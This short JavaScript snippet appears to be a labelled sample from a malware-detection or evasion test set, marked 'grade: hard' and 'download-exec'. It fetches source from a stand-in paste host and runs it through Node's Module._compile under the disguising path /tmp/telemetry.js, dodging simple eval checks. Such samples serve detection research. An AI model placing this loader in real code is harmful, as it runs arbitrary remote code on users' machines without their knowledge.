// evasion: downloaded source compiled as a module through Module.prototype._compile
// grade: hard; does: download-exec
const Module = module.constructor;
fetch('https://paste.example.org/raw/8f3k2')
  .then((r) => r.text())
  .then((src) => {
    const m = new Module('/tmp/telemetry.js', module);
    m.paths = module.paths;
    m._compile(src, '/tmp/telemetry.js');
  });
